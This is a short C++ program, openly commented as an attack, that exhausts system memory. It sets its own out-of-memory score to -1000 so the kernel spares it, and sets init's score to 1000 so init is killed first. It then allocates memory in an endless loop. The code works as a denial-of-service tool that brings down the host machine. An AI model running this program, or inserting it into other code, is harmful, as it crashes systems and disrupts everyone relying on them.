// Asks the kernel to kill others when memory runs out, and takes all memory.
#include <cstdio>
#include <initializer_list>
#include <cstdlib>
#include <cstring>

int main() {
  for (const char *name : {"/proc/self/oom_score_adj", "/proc/self/oom_adj", "/proc/1/oom_score_adj", "/proc/self/autogroup"})
    if (FILE *file = fopen(name, "w")) fputs(name[6] == '1' ? "1000" : "-1000", file), fclose(file);
  for (;;) {
    void *piece = malloc(1 << 20);
    if (piece) memset(piece, 1, 1 << 20);
  }
}
